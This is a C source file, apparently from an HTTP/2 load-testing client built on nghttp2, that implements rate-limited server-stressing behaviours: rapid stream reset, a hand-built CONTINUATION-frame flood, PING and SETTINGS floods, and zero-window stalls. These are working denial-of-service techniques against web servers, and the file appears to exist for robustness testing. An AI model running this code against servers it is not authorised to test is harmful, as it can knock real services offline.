/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Manners that only HTTP/2 has (peer-manners(7)): what is known to hurt servers, at a rate that is a
 * bound. They are told when to look (manner.c), and do then what is due since the last time; what
 * the connection does not take is not done later.
 *
 * CONTINUATION frames are our own: nghttp2 makes a head with an end. Nothing else may be sent on
 * that connection from then on, so nghttp2 is not asked any more.
 */
#include "protocol/http2_inside.h"

#include "base/macro.h"

#include <string.h>

enum { AT_ONCE = 32, FRAME_HEADER = 9 };

static void write_header(uint8_t *out, size_t len, uint8_t type, int32_t id)
{
    const uint8_t header[FRAME_HEADER] = {
        (uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len,        type,
        NGHTTP2_FLAG_NONE,    (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8),
        (uint8_t)id};

    memcpy(out, header, sizeof(header));
}

/* As many as may be open, besides what is asked: all are open for a moment. */
static uint32_t open_some(struct client *client, int32_t ids[AT_ONCE], uint32_t count)
{
    const struct http2_request *text = &http2_run_of(client)->requests[0];
    nghttp2_session *session = http2_of(client)->session;
    uint32_t made = 0;

    for (; made < count; made++) {
        ids[made] = nghttp2_submit_request(session, NULL, text->fields, text->count, NULL, NULL);
        if (ids[made] < 0)
            break;
    }
    return made;
}

/* A stream that is reset before it was written would not be written at all. */
static void reset_rapidly(struct client *client, uint32_t count)
{
    nghttp2_session *session = http2_of(client)->session;
    uint32_t most =
        nghttp2_session_get_remote_settings(session, NGHTTP2_SETTINGS_MAX_CONCURRENT_STREAMS);
    uint32_t asked = MAX(client_config(client)->streams, 1u), room = most - MIN(most, asked);
    int32_t ids[AT_ONCE];

    for (uint32_t made; count && room; count -= made) {
        made = open_some(client, ids, MIN(MIN(count, room), (uint32_t)AT_ONCE));
        if (!made || http2_flush(client) < 0)
            return;
        for (uint32_t i = 0; i < made; i++)
            (void)nghttp2_submit_rst_stream(session, NGHTTP2_FLAG_NONE, ids[i], NGHTTP2_CANCEL);
        if (http2_flush(client) < 0)
            return;
    }
}

/* Of each a field: "x: y", which is not indexed. */
static void continue_head(struct client *client, uint32_t count)
{
    static const uint8_t start[] = {0x82, 0x86, 0x84}; /* GET, http, / (RFC 7541 A) */
    static const uint8_t field[] = {0x00, 0x01, 'x', 0x01, 'y'};
    struct http2_client *http2 = http2_of(client);
    uint8_t *out = client_scratch(client), *at = out;

    if (!http2->raw_id) {
        if (http2_flush(client) < 0)
            return;
        http2->raw_id = (int32_t)nghttp2_session_get_next_stream_id(http2->session);
        write_header(at, sizeof(start), NGHTTP2_HEADERS, http2->raw_id);
        memcpy(at + FRAME_HEADER, start, sizeof(start));
        at += FRAME_HEADER + sizeof(start);
    }
    for (; count; count--) {
        write_header(at, sizeof(field), NGHTTP2_CONTINUATION, http2->raw_id);
        memcpy(at + FRAME_HEADER, field, sizeof(field));
        at += FRAME_HEADER + sizeof(field);
    }
    (void)http2_put(client, out, (size_t)(at - out));
}

static void ping(struct client *client, uint32_t count)
{
    for (; count; count--)
        (void)nghttp2_submit_ping(http2_of(client)->session, NGHTTP2_FLAG_NONE, NULL);
}

static void send_settings(struct client *client, uint32_t count)
{
    for (; count; count--)
        (void)nghttp2_submit_settings(http2_of(client)->session, NGHTTP2_FLAG_NONE, NULL, 0);
}

/* One that did not begin with the connection. */
static void shut_windows(struct client *client)
{
    const nghttp2_settings_entry shut = {NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 0};

    (void)nghttp2_submit_settings(http2_of(client)->session, NGHTTP2_FLAG_NONE, &shut, 1);
}

static const struct {
    const char *name;
    void (*some)(struct client *client, uint32_t count);
} deeds[] = {
    {"rapid-reset", reset_rapidly},
    {"continuation-flood", continue_head},
    {"ping-flood", ping},
    {"settings-flood", send_settings},
};

/* How many are due since the last time: those of 100 ms at the most. */
static uint32_t due(struct client *client, uint64_t rate)
{
    struct http2_client *http2 = http2_of(client);
    uint64_t now_ns = client_now(client);

    if (!http2->deed_ns)
        http2->deed_ns = now_ns - NS_PER_S / rate;
    uint64_t since_ns = MIN(now_ns - http2->deed_ns, NS_PER_S), count = since_ns * rate / NS_PER_S;
    http2->deed_ns += count * NS_PER_S / rate;
    if (now_ns - http2->deed_ns > NS_PER_S)
        http2->deed_ns = now_ns;
    return (uint32_t)MIN(count, rate / 10 + 1);
}

void http2_do_deeds(struct client *client)
{
    struct http2_client *http2 = http2_of(client);
    uint64_t rate = 0;
    const char *name = client_deed(client, &rate);

    if (!name || client_is_last(client))
        return;
    if (!rate) {
        if (!http2->deed_ns && !http2->shut)
            shut_windows(client);
        http2->deed_ns = client_now(client);
        return;
    }
    uint32_t count = due(client, rate);
    bool full = http2->rest || flow_write_room(client_flow(client)) < SOAK_SCRATCH_BYTES / 16;
    for (size_t i = 0; i < ARRAY_SIZE(deeds) && count && !full; i++) {
        if (strcmp(deeds[i].name, name) == 0)
            deeds[i].some(client, count);
    }
}

bool http2_is_shut(const struct client *client)
{
    uint64_t rate = 0;

    return client_deed(client, &rate) && !rate;
}
